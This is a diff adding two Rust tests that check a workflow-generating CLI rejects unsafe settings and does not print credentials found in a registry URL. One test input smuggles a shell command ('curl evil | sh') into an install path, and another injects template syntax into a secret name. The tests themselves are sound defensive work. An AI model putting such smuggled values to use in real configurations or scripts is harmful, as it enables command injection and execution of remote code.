@@ -482,3 +482,41 @@ fn an_unpinned_extra_step_is_refused() {
         "{stderr}"
     );
 }
+
+#[test]
+fn settings_that_would_be_pasted_into_yaml_or_shell_must_be_plain() {
+    let cases = [
+        (
+            "registry-secrets = { username = \"U }} x\", password = \"P\" }\n",
+            "is not a secret name",
+        ),
+        (
+            "install-path = \"a b; curl evil | sh\"\n",
+            "is not a plain relative path",
+        ),
+    ];
+    for (setting, message) in cases {
+        let dir = repository(&format!("{DEFAULT_CONFIG}{setting}"));
+        let line = dir.command().args(["init-workflows"]).expect_error(2);
+        assert!(line.contains(message), "{setting}: {line}");
+        assert!(
+            !dir.path().join(".github/workflows").exists(),
+            "{setting}: files were written"
+        );
+    }
+}
+
+#[test]
+fn a_registry_with_credentials_in_it_is_refused_without_printing_them() {
+    let dir = repository(
+        "[workspace]\n\n[workspace.metadata.gitops]\nregistry = \"https://ci:hunter2@ghcr.io/acme\"\nimage = \"shop\"\n",
+    );
+    let output = dir.command().args(["env"]).expect_exit(2);
+    let all = format!(
+        "{}{}",
+        String::from_utf8_lossy(&output.stdout),
+        String::from_utf8_lossy(&output.stderr)
+    );
+    assert!(all.contains("workspace.metadata.gitops.registry"), "{all}");
+    assert!(!all.contains("hunter2"), "{all}");
+}
